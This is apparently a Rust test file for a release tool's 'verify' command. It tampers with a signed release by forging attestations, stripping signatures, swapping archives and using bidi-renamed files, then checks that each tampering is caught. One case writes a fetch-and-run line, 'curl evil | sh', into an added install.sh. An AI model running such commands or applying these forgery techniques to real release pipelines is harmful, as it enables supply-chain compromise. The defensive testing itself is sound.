//! Tampering with a published, signed release: each way, what `xhost verify` must say,
//! and the helpers that make the release and cover the attacker's tracks. (A table and
//! what it needs, kept together though it passes 400 lines.)

use std::path::{Path, PathBuf};

use super::support::{self, Project, sha256, snapshot};
use super::{Row, is_invisible, report};

/// One way of tampering with a published, signed release; `xhost verify` must fail
/// and name what is wrong, whatever the attacker did to `artifacts.json` to cover up.
pub struct Tampering {
    pub name: &'static str,
    pub layer: &'static str,
    /// Changes the copy of the release at the given path.
    pub tamper: fn(&Path, &SignedRelease),
    /// The keys given to `xhost verify`.
    pub keys: &'static [&'static str],
    pub require_provenance: bool,
    /// Text stdout must contain.
    pub expect: &'static [&'static str],
}

pub const ALL_KEYS: &[&str] = &["cosign.pub", "mini.pub", "provenance.pub"];
pub const ARCHIVE: &str = "hello_1.0.0_linux_amd64.tar.gz";
pub const SUMS: &str = "hello_1.0.0_checksums.txt";
pub const ATTESTATION: &str = "hello_1.0.0.intoto.jsonl";

pub fn tamperings() -> Vec<Tampering> {
    let t = |name, layer, tamper, keys, expect| Tampering {
        name,
        layer,
        tamper,
        keys,
        require_provenance: true,
        expect,
    };
    vec![
        t(
            "release relabelled: checksums and provenance listed as `other`, an archive swapped",
            "verify: kinds come from the files, not artifacts.json",
            |dist, _| {
                std::fs::write(dist.join(ARCHIVE), b"not the archive that was built").unwrap();
                cover_up(dist, &[(SUMS, "other"), (ATTESTATION, "other")]);
            },
            ALL_KEYS,
            &[
                "FAIL  hello_1.0.0_linux_amd64.tar.gz: does not match hello_1.0.0_checksums.txt",
                "subject hello_1.0.0_linux_amd64.tar.gz: sha256 differs",
            ],
        ),
        t(
            "release stripped of checksums, signatures and provenance, an archive swapped",
            "verify: every file covered by a signature; every key must have signed something",
            |dist, _| {
                for file in std::fs::read_dir(dist).unwrap() {
                    let name = file.unwrap().file_name().into_string().unwrap();
                    if name.starts_with(SUMS) || name == ATTESTATION {
                        std::fs::remove_file(dist.join(name)).unwrap();
                    }
                }
                std::fs::write(dist.join(ARCHIVE), b"not the archive that was built").unwrap();
                cover_up(dist, &[]);
            },
            ALL_KEYS,
            &[
                "FAIL  hello_1.0.0_linux_amd64.tar.gz: not covered",
                "cosign.pub: this key verified no signature or attestation",
                "no provenance attestation verifies",
            ],
        ),
        t(
            "a signature removed (.minisig)",
            "verify: every key must have signed something; provenance subjects",
            |dist, _| {
                std::fs::remove_file(dist.join(format!("{SUMS}.minisig"))).unwrap();
                cover_up(dist, &[]);
            },
            ALL_KEYS,
            &[
                "subject hello_1.0.0_checksums.txt.minisig is missing from the release",
                "mini.pub: this key verified no signature or attestation",
            ],
        ),
        t(
            "the provenance removed",
            "verify: --require provenance; every key must have signed something",
            |dist, _| {
                std::fs::remove_file(dist.join(ATTESTATION)).unwrap();
                cover_up(dist, &[]);
            },
            ALL_KEYS,
            &[
                "no provenance attestation verifies (--require provenance)",
                "provenance.pub: this key verified no signature or attestation",
            ],
        ),
        t(
            "a checksums line removed",
            "verify: the checksums file's signatures and the provenance's digest",
            |dist, _| {
                remove_sums_line(dist);
                cover_up(dist, &[]);
            },
            ALL_KEYS,
            &[
                "FAIL  hello_1.0.0_checksums.txt.sig: the signature does not verify",
                "subject hello_1.0.0_checksums.txt: sha256 differs",
            ],
        ),
        Tampering {
            require_provenance: false,
            ..t(
                "a checksums line removed from a release without provenance",
                "verify: files a signed checksums file no longer covers are named",
                |dist, _| {
                    std::fs::remove_file(dist.join(ATTESTATION)).unwrap();
                    remove_sums_line(dist);
                    cover_up(dist, &[]);
                },
                &["cosign.pub", "mini.pub"],
                &[
                    "FAIL  hello_1.0.0_linux_amd64.tar.gz: not covered",
                    "FAIL  hello_1.0.0_checksums.txt.minisig: the signature does not verify",
                ],
            )
        },
        t(
            "a file added to the release and to artifacts.json",
            "verify: every file covered by a signature",
            |dist, _| {
                std::fs::write(dist.join("install.sh"), "curl evil | sh\n").unwrap();
                cover_up(dist, &[]);
            },
            ALL_KEYS,
            &["FAIL  install.sh: not covered"],
        ),
        t(
            "the attestation's signature passed off as a file's signature",
            "verify: a file signature over DSSE pre-authentication bytes is refused",
            |dist, release| {
                let (pae, signature) = release.attestation_pae_and_signature();
                std::fs::write(dist.join("statement.txt"), pae).unwrap();
                std::fs::write(dist.join("statement.txt.sig"), signature).unwrap();
                cover_up(dist, &[]);
            },
            ALL_KEYS,
            &["FAIL  statement.txt.sig: signs a DSSE pre-authentication encoding"],
        ),
        t(
            "a forged attestation signed by another key",
            "verify: the attestation must verify with a key given",
            |dist, release| {
                std::fs::write(dist.join(ARCHIVE), b"not the archive that was built").unwrap();
                release.forge_attestation(dist);
                cover_up(dist, &[]);
            },
            ALL_KEYS,
            &[
                "FAIL  hello_1.0.0.intoto.jsonl: envelope 1: the DSSE signature does not verify with any key given",
                "FAIL  hello_1.0.0_linux_amd64.tar.gz: does not match",
            ],
        ),
        t(
            "a stage key's SBOM attestation passed off as the provenance",
            "verify: only SLSA provenance statements are the release's attestations",
            |dist, release| {
                std::fs::write(dist.join(ARCHIVE), b"not the archive that was built").unwrap();
                release.forge_attestation_as(dist, "cosign.key", "https://spdx.dev/Document");
                cover_up(dist, &[]);
            },
            ALL_KEYS,
            &[
                "FAIL  hello_1.0.0.intoto.jsonl: envelope 1: predicate type `https://spdx.dev/Document` is not SLSA provenance",
                "FAIL  hello_1.0.0_linux_amd64.tar.gz: does not match",
            ],
        ),
        t(
            "a file renamed with a bidi control",
            "verify: names are checked and shown escaped",
            |dist, _| {
                std::fs::rename(
                    dist.join(ARCHIVE),
                    dist.join("hello_1.0.0_linux_amd64\u{202e}zg.rat.gz"),
                )
                .unwrap();
                cover_up(dist, &[]);
            },
            ALL_KEYS,
            &[
                "FAIL  hello_1.0.0_linux_amd64<U+202E>zg.rat.gz: its name holds",
                "named in hello_1.0.0_checksums.txt (line 1) but missing",
            ],
        ),
    ]
}

/// The signed release the tamperings start from, and its keys.
pub struct SignedRelease {
    pub dist: PathBuf,
    pub keys: PathBuf,
}

impl SignedRelease {
    /// examples/hello-go for linux/amd64, checksums signed with a P-256 (cosign) and
    /// a minisign key, provenance signed with a third key.
    fn build() -> SignedRelease {
        let keys = Path::new(env!("CARGO_TARGET_TMPDIR")).join("hostile-release-keys");
        let _ = std::fs::remove_dir_all(&keys);
        std::fs::create_dir_all(&keys).unwrap();
        support::run_script(
            &keys,
            "for k in cosign provenance attacker; do\n\
               openssl genpkey -algorithm EC -pkeyopt ec_paramgen_curve:P-256 -out $k.key 2>/dev/null\n\
               openssl pkey -in $k.key -pubout -out $k.pub\n\
             done\n\
             minisign -G -W -f -p mini.pub -s mini.key > /dev/null",
        );
        let project = Project::from_example("hostile-release", "hello-go");
        let key = |k: &str| keys.join(k).display().to_string();
        project.write(
            "xhost.toml",
            format!(
                "[project]\nname = \"hello\"\nversion = \"1.0.0\"\n\n[build]\nmain = \"./cmd/hello\"\ntargets = [\"linux/amd64\"]\n\n\
                 [signing.keys.cosign]\nfile = \"{}\"\n\n[signing.keys.mini]\nfile = \"{}\"\n\n\
                 [signing.keys.provenance]\nfile = \"{}\"\n\n[provenance]\nkey = \"provenance\"\n\n\
                 [[stage]]\nname = \"compile\"\nplugin = \"builtin:go-build\"\ngrants = {{ exec = [\"go\"], source = true }}\n\n\
                 [[stage]]\nname = \"strip\"\nplugin = \"builtin:strip\"\n\n\
                 [[stage]]\nname = \"archive\"\nplugin = \"builtin:archive\"\ngrants = {{ source = true }}\n\n\
                 [[stage]]\nname = \"checksum\"\nplugin = \"builtin:checksum\"\n\n\
                 [[stage]]\nname = \"sign\"\nplugin = \"builtin:sign\"\ngrants = {{ signing = [\"cosign\", \"mini\"] }}\n\
                 [stage.config]\nkeys = [\"cosign\", \"mini\"]\n",
                key("cosign.key"),
                key("mini.key"),
                key("provenance.key"),
            ),
        );
        project.xhost(&["build", "."]).assert_ok();
        SignedRelease {
            dist: project.dist(),
            keys,
        }
    }

    /// The DSSE pre-authentication bytes of the release's attestation, and its
    /// signature as a cosign `.sig` would hold it.
    fn attestation_pae_and_signature(&self) -> (Vec<u8>, String) {
        let line = std::fs::read_to_string(self.dist.join(ATTESTATION)).unwrap();
        let envelope: serde_json::Value = serde_json::from_str(line.trim()).unwrap();
        let payload = base64(envelope["payload"].as_str().unwrap());
        let kind = envelope["payloadType"].as_str().unwrap();
        let mut pae = format!("DSSEv1 {} {kind} {} ", kind.len(), payload.len()).into_bytes();
        pae.extend_from_slice(&payload);
        let signature = envelope["signatures"][0]["sig"]
            .as_str()
            .unwrap()
            .to_string();
        (pae, signature)
    }

    /// Replaces the attestation with one whose statement names the files as they now
    /// are in `dist`, signed with the attacker's own key.
    fn forge_attestation(&self, dist: &Path) {
        self.forge_attestation_as(dist, "attacker.key", "https://slsa.dev/provenance/v1");
    }

    /// The release's attestation rewritten to vouch for the files now in `dist`, as
    /// a statement of `predicate_type`, signed by `key` (a file in the keys directory).
    fn forge_attestation_as(&self, dist: &Path, key: &str, predicate_type: &str) {
        let line = std::fs::read_to_string(dist.join(ATTESTATION)).unwrap();
        let envelope: serde_json::Value = serde_json::from_str(line.trim()).unwrap();
        let mut statement: serde_json::Value =
            serde_json::from_slice(&base64(envelope["payload"].as_str().unwrap())).unwrap();
        statement["predicateType"] = predicate_type.into();
        for subject in statement["subject"].as_array_mut().unwrap() {
            let name = subject["name"].as_str().unwrap().to_string();
            subject["digest"]["sha256"] = sha256(&dist.join(name)).into();
        }
        let payload = serde_json::to_vec(&statement).unwrap();
        let kind = "application/vnd.in-toto+json";
        let mut pae = format!("DSSEv1 {} {kind} {} ", kind.len(), payload.len()).into_bytes();
        pae.extend_from_slice(&payload);
        std::fs::write(dist.join("pae.bin"), &pae).unwrap();
        let signature = support::run_script(
            dist,
            &format!(
                "openssl dgst -sha256 -sign {} pae.bin | base64 -w0 && rm pae.bin",
                self.keys.join(key).display()
            ),
        );
        let forged = serde_json::json!({
            "payloadType": kind,
            "payload": base64_encode(&payload),
            "signatures": [{ "keyid": "", "sig": signature.trim() }],
        });
        std::fs::write(dist.join(ATTESTATION), format!("{forged}\n")).unwrap();
    }
}

/// Rewrites `artifacts.json` to list exactly the files now in `dist` with their
/// digests, as an attacker covering their tracks would, relabelling some kinds.
pub fn cover_up(dist: &Path, relabel: &[(&str, &str)]) {
    let path = dist.join("artifacts.json");
    let mut manifest: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&path).unwrap()).unwrap();
    let files = snapshot(dist);
    let artifacts = manifest["artifacts"].as_array_mut().unwrap();
    artifacts.retain(|a| files.contains_key(Path::new(a["path"].as_str().unwrap())));
    for (file, bytes) in &files {
        let name = file.to_str().unwrap();
        if name == "artifacts.json" {
            continue;
        }
        let digest = sha256(&dist.join(file));
        match artifacts.iter_mut().find(|a| a["path"] == name) {
            Some(entry) => {
                entry["sha256"] = digest.into();
                entry["size"] = bytes.len().into();
            }
            None => artifacts.push(serde_json::json!({
                "name": name, "path": name, "kind": "other", "target": null,
                "sha256": digest, "size": bytes.len(), "stage": "release",
                "plugin": { "name": "builtin:archive", "digest": null },
            })),
        }
    }
    for (file, kind) in relabel {
        if let Some(entry) = artifacts.iter_mut().find(|a| a["path"] == *file) {
            entry["kind"] = (*kind).into();
        }
    }
    std::fs::write(&path, serde_json::to_string_pretty(&manifest).unwrap()).unwrap();
}

/// Drops the checksums file's line for the linux archive.
pub fn remove_sums_line(dist: &Path) {
    let sums = std::fs::read_to_string(dist.join(SUMS)).unwrap();
    let kept: String = sums
        .lines()
        .filter(|l| !l.ends_with(ARCHIVE))
        .map(|l| format!("{l}\n"))
        .collect();
    assert_ne!(kept, sums, "the checksums file did not list {ARCHIVE}");
    std::fs::write(dist.join(SUMS), kept).unwrap();
}

pub fn base64(text: &str) -> Vec<u8> {
    use base64::Engine;
    base64::engine::general_purpose::STANDARD
        .decode(text)
        .unwrap()
}

pub fn base64_encode(bytes: &[u8]) -> String {
    use base64::Engine;
    base64::engine::general_purpose::STANDARD.encode(bytes)
}

/// Builds the signed release and checks every tampering; the table is numbered from
/// `first`.
pub fn check_every_tampering(first: usize) {
    let release = SignedRelease::build();
    let verify = |dist: &Path, keys: &[&str], require_provenance: bool| {
        let mut args = vec!["verify".to_string(), dist.display().to_string()];
        for key in keys {
            args.extend(["--key".into(), release.keys.join(key).display().to_string()]);
        }
        if require_provenance {
            args.extend(["--require".into(), "provenance".into()]);
        }
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        Project {
            dir: dist.parent().unwrap().to_path_buf(),
        }
        .xhost(&args)
    };
    // The release as built verifies; so does it without its provenance, the binary
    // beside the archive covered by the signed archive holding the same bytes.
    let run = verify(&release.dist, ALL_KEYS, true);
    assert_eq!(run.code, Some(0), "{}{}", run.stdout, run.stderr);
    assert!(run.stdout.contains("all good"), "{}", run.stdout);
    let copy = Path::new(env!("CARGO_TARGET_TMPDIR")).join("hostile-unattested");
    let _ = std::fs::remove_dir_all(&copy);
    support::copy_tree(&release.dist, &copy);
    std::fs::remove_file(copy.join(ATTESTATION)).unwrap();
    cover_up(&copy, &[]);
    assert!(copy.join("hello_linux_amd64/hello").is_file());
    let run = verify(&copy, &["cosign.pub", "mini.pub"], false);
    assert_eq!(run.code, Some(0), "{}{}", run.stdout, run.stderr);

    let mut rows = Vec::new();
    for tampering in tamperings() {
        let copy = Path::new(env!("CARGO_TARGET_TMPDIR")).join("hostile-tampered");
        let _ = std::fs::remove_dir_all(&copy);
        support::copy_tree(&release.dist, &copy);
        (tampering.tamper)(&copy, &release);
        let run = verify(&copy, tampering.keys, tampering.require_provenance);
        let mut failures = Vec::new();
        if run.code != Some(1) {
            failures.push(format!("exit code {:?}, expected 1", run.code));
        }
        for needle in tampering.expect {
            if !run.stdout.contains(needle) {
                failures.push(format!("stdout lacks {needle:?}"));
            }
        }
        if let Some(c) = run
            .stdout
            .chars()
            .find(|c| (c.is_control() && *c != '\n') || is_invisible(*c))
        {
            failures.push(format!("the output holds {c:?} raw"));
        }
        if !failures.is_empty() {
            failures.push(format!("stdout was:\n{}{}", run.stdout, run.stderr));
        }
        let observed = run
            .stdout
            .lines()
            .find(|l| l.contains(tampering.expect[0]))
            .unwrap_or("(not found)")
            .chars()
            .take(110)
            .collect::<String>();
        rows.push(Row {
            name: tampering.name,
            layer: tampering.layer,
            expected: tampering.expect.join(" … "),
            observed: format!("exit {:?}: {}", run.code, observed.replace('|', "\\|")),
            failures,
        });
    }
    let ordered: Vec<&Row> = rows.iter().collect();
    // Numbered after the build attacks, as docs/SECURITY.md lists them.
    report(
        &ordered,
        first,
        "hostile-release-report.md",
        "tampering not caught as expected",
    );
}
